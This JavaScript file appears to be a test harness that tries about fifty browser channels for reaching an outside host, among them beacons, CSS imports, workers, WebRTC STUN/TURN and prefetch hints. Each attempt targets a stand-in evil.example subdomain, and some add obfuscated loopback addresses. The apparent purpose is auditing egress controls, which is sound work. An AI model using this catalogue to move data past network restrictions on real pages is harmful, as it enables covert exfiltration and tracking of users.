// Everything by which a page reaches a host. Each attempt has a host of its own, so that a witness can tell
// which one arrived. None of them needs a finger.
const add = (kind, attributes, where = document.body) => {
  const node = Object.assign(document.createElement(kind), attributes);
  where.append(node);
  return node;
};
const link = (rel, more = {}) => (url) => add('link', { rel, href: url, ...more }, document.head);
const inWorker = (code) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
const peer = async (servers) => {
  const connection = new RTCPeerConnection({ iceServers: servers });
  connection.createDataChannel('x');
  await connection.setLocalDescription(await connection.createOffer());
};

const attempts = {
  'fetch': (url) => fetch(url, { mode: 'no-cors' }),
  'fetch-keepalive': (url) => fetch(url, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
  'xhr': (url) => { const asking = new XMLHttpRequest(); asking.open('GET', url); asking.send(); },
  'beacon': (url) => navigator.sendBeacon(url, 'x'),
  'image': (url) => add('img', { src: url }),
  'srcset': (url) => add('img', { srcset: `${url} 1x` }),
  'svg-image': (url) => { document.body.insertAdjacentHTML('beforeend', `<svg><image href="${url}"/></svg>`); },
  'script': (url) => add('script', { src: url }),
  'module': (url) => import(url),
  'style': link('stylesheet'),
  'css-import': (url) => add('style', { textContent: `@import url("${url}")` }),
  'css-background': (url) => add('p', { style: `background: url("${url}")` }),
  'font': (url) => new FontFace('f', `url("${url}")`).load(),
  'audio': (url) => add('audio', { src: url, preload: 'auto' }),
  'video': (url) => add('video', { src: url, preload: 'auto' }),
  'poster': (url) => add('video', { poster: url }),
  'object': (url) => add('object', { data: url }),
  'embed': (url) => add('embed', { src: url }),
  'iframe': (url) => add('iframe', { src: url }),
  'iframe-srcdoc': (url) => add('iframe', { srcdoc: `<img src="${url}">` }),
  'iframe-sandbox': (url) => {
    add('iframe', { sandbox: 'allow-scripts', srcdoc: `<script>fetch("${url}", {mode: "no-cors"})</scr` + 'ipt>' });
  },
  'form-in-frame': (url) => {
    add('iframe', { name: 'hole' });
    const form = add('form', { action: url, method: 'post', target: 'hole' });
    form.submit();
  },
  'event-source': (url) => new EventSource(url),
  'websocket': (url) => new WebSocket(url.replace('https', 'wss')),
  'preconnect': link('preconnect'),
  'dns-prefetch': link('dns-prefetch'),
  'prefetch': link('prefetch'),
  'preload': link('preload', { as: 'image' }),
  'modulepreload': link('modulepreload'),
  'icon': link('icon'),
  'manifest': link('manifest', { crossOrigin: 'anonymous' }),
  'speculation': (url) => {
    const rules = { prefetch: [{ urls: [url], eagerness: 'immediate' }], prerender: [{ urls: [url], eagerness: 'immediate' }] };
    add('script', { type: 'speculationrules', textContent: JSON.stringify(rules) });
  },
  'ping': (url) => add('a', { href: '#x', ping: url }).click(),
  'worker': (url) => new Worker(inWorker(`fetch("${url}", {mode: "no-cors"})`)),
  'worker-import': (url) => new Worker(inWorker(`importScripts("${url}")`)),
  'shared-worker': (url) => new SharedWorker(inWorker(`fetch("${url}", {mode: "no-cors"})`)),
  'service-worker': (url) => navigator.serviceWorker.register(`/ok/worker.js?${encodeURIComponent(url)}`),
  'worklet': (url) => new AudioContext().audioWorklet.addModule(url),
  'web-transport': (url) => new WebTransport(url).ready,
  'stun': (url) => peer([{ urls: `stun:${new URL(url).host}` }]),
  'stun-by-address': (url) => peer([{ urls: `stun:127.0.0.1:${new URL(url).port}` }]),
  'turn-tcp': (url) => peer([{ urls: `turn:${new URL(url).host}?transport=tcp`, username: 'u', credential: 'c' }]),
  'turns': (url) => peer([{ urls: `turns:${new URL(url).host}?transport=tcp`, username: 'u', credential: 'c' }]),
  'fetch-later': (url) => fetchLater(url, { activateAfter: 0 }),
  'payment': (url) => new PaymentRequest([{ supportedMethods: url }],
    { total: { label: 'x', amount: { currency: 'GBP', value: '1' } } }).canMakePayment(),
  'address': (url) => fetch(`https://127.0.0.1:${new URL(url).port}/`, { mode: 'no-cors' }),
  'address-plain': (url, plain) => fetch(`http://127.0.0.1:${new URL(plain).port}/`, { mode: 'no-cors' }),
  'address-odd': (url, plain) => fetch(`http://0x7f.1:${new URL(plain).port}/`, { mode: 'no-cors' }),
  'address-six': (url, plain) => fetch(`http://[::ffff:127.0.0.1]:${new URL(plain).port}/`, { mode: 'no-cors' }),
  'localhost': (url, plain) => fetch(`http://localhost:${new URL(plain).port}/`, { mode: 'no-cors' }),
};

const tryAll = async (tls, plain) => {
  const said = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      const going = attempt(`https://${name}.evil.example:${tls}/`, `http://${name}.evil.example:${plain}/`);
      said[name] = 'tried';
      going?.catch?.(() => {});
    } catch (error) {
      said[name] = String(error);
    }
  }
  await new Promise((done) => setTimeout(done, 1500));
  await fetch('/ok/tell', { method: 'POST', body: JSON.stringify({ egress: JSON.stringify(said) }) });
};
